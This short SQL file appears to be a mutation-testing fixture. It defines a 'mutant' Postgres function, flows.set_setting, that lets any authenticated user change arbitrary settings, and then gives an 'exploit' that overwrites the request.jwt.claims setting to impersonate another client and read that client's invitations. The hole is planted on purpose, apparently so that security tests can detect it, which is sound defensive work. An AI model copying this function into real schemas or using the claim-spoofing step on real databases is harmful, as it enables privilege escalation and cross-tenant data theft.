-- mutant: A function of the API that sets any setting, the claims too
-- base: flows
-- family: escalation
-- leaks: everything of the client that the caller then claims to be
create function flows.set_setting(name text, value text) returns text
language sql volatile
set search_path = ''
begin atomic
  select set_config(name, value, true);
end;
revoke all on function flows.set_setting(text, text) from public;
grant execute on function flows.set_setting(text, text) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
select flows.set_setting('request.jwt.claims', '{"role": "authenticated", "app_metadata": {"client_id": "{{b}}"}}');
select id, permissions from flows.invitations where client_id = '{{b}}';
